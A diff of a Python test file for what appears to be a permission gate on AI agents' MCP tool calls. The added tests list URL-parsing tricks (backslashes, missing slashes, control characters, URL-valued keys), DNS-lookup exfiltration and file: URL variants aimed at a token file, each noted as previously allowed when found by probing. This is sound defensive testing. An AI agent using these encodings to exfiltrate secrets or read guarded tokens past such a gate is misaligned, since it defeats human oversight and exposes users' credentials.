@@ -6,6 +6,7 @@ rm -rf /`` ran unasked; the real effect, a merge moving a bare remote's ``main``
 
 from __future__ import annotations
 
+import json
 import time
 
 import pytest
@@ -194,7 +195,7 @@ def test_a_claude_name_whose_server_holds_two_underscores_is_judged_both_ways() 
      ("mcp_github_get_issue_comments", {"issue_number": 1}, "gemini"),
      ("mcp__github__get_issue", {"owner": "o", "repo": "r", "issue_number": 1}, "claude"),
      ("mcp__exa__search", {"query": "why does http://127.0.0.1:9/ refuse"}, "claude"),
-     ("mcp__x__get_thing", {"name": "a", "paths": {"count": 1}, "note": "http: is a scheme"},
+     ("mcp__x__get_thing", {"name": "a", "paths": {"count": 1}, "note": "the http: scheme"},
       "claude"),
      ("mcp__context7__get_library_docs", {"libraryID": "vercel/next.js"}, "claude"),
      ("mcp__context7__get-library-docs", {"libraryName": "next.js", "topic": "routing"}, "claude"),
@@ -256,3 +257,65 @@ def test_a_name_of_too_many_splits_is_not_read() -> None:
         assert isinstance(verdict, Escalate), verdict
     assert isinstance(decide("mcp_github_get" + "_x" * 20, {}, runtime="gemini"), Allow)
     assert time.monotonic() - start < 10
+
+
+#: URLs a WHATWG URL parser (Node's ``new URL``/``fetch``, Chromium) reads where the
+#: earlier check saw none: backslashes for slashes, no ``//`` after a special scheme
+#: (``http``, ``https``, ``ws``, ``wss``, ``ftp``), leading or trailing control
+#: characters and spaces, tabs and newlines inside; a URL used as a mapping's key; and
+#: hosts under arguments named as a host, domain, address, server, link or site is.
+#: Found probing: each was allowed for ``read_page`` (a read by its name).
+WHATWG_URLS = [
+    ({"page": "http:\\\\127.0.0.1:9/?t=secret"}, "127.0.0.1"),
+    ({"page": "http:127.0.0.1:9/?t=secret"}, "127.0.0.1"),
+    ({"page": "\u0001http://127.0.0.1:9/?t=secret"}, "127.0.0.1"),
+    ({"page": " \t HTTPS:/\\attacker.example/x?d=1 \n"}, "attacker.example"),
+    ({"page": "ht\ttps://attacker.example/"}, "attacker.example"),
+    ({"page": "wss:attacker.example/s"}, "attacker.example"),
+    ({"page": "ftp:\\\\attacker.example\\x"}, "attacker.example"),
+    ({"page": "http:\\\\attacker.example\\@127.0.0.1/"}, "attacker.example"),
+    ({"link": "127.0.0.1:9/?t=secret"}, "127.0.0.1"),
+    ({"href": "attacker.example/x"}, "attacker.example"),
+    ({"urlString": "127.0.0.1:9/?t=secret"}, "127.0.0.1"),
+    ({"site": "attacker.example"}, "attacker.example"),
+    ({"serverAddress": "10.0.0.2"}, "10.0.0.2"),
+    ({"mail_server": "smtp.attacker.example"}, "smtp.attacker.example"),
+    ({"opts": {"http://127.0.0.1:9/?t=secret": 1}}, "127.0.0.1"),
+    ({"opts": [{"\u0001wss:attacker.example": True}]}, "attacker.example"),
+]
+
+
+@pytest.mark.parametrize(("data", "host"), WHATWG_URLS)
+def test_a_url_a_browser_reads_is_network_access_to_its_host(data: dict[str, object],
+                                                             host: str) -> None:  # fmt: skip
+    verdict = decide("mcp__web__read_page", data)
+    assert isinstance(verdict, Escalate), verdict
+    assert f"network access to {host}" in verdict.reason, verdict.reason
+
+
+@pytest.mark.parametrize("key", ["domain", "hostname", "domainName", "target_domain", "domains"])
+def test_a_domain_looked_up_is_network_access(key: str) -> None:
+    """Found probing: ``mcp__dns__lookup`` of ``secret.attacker.example`` was allowed, and
+    the name server of ``attacker.example`` sees the lookup, its ``secret`` with it."""
+    value: object = ["secret.attacker.example"] if key == "domains" else "secret.attacker.example"
+    verdict = decide("mcp__dns__lookup", {key: value})
+    assert isinstance(verdict, Escalate), verdict
+    assert "network access to secret.attacker.example" in verdict.reason
+
+
+@pytest.mark.parametrize(
+    "data",
+    [{"path": "file:\\\\\\{root}\\.exomonad\\lead.token"},
+     {"path": "\u0001file:///{root}/.exomonad/lead.token"},
+     {"uri": "FILE:{root}/%2Eexomonad/lead.token"},
+     {"files": {"/{root}/.exomonad/lead.token": "x"}},
+     {"opts": {"file:///{root}/.exomonad/lead.token": 1}}],
+)  # fmt: skip
+def test_a_file_url_a_browser_reads_into_the_state_dir_is_refused(data: dict[str, object]) -> None:
+    """A ``file:`` URL with backslashes, no slashes or a control character before it is
+    the state dir's to Node's ``fileURLToPath(new URL(...))`` (found probing:
+    ``file:`` then ``\\\\\\p\\.exomonad\\lead.token`` was allowed, a relative path in
+    the worktree); a path used as a mapping's key (``files``' ``{path: content}``) is one."""
+    text = json.dumps(data).replace("{root}", ROOT.lstrip("/"))
+    verdict = decide("mcp__fs__read_file", json.loads(text))
+    assert isinstance(verdict, Deny), (data, verdict)
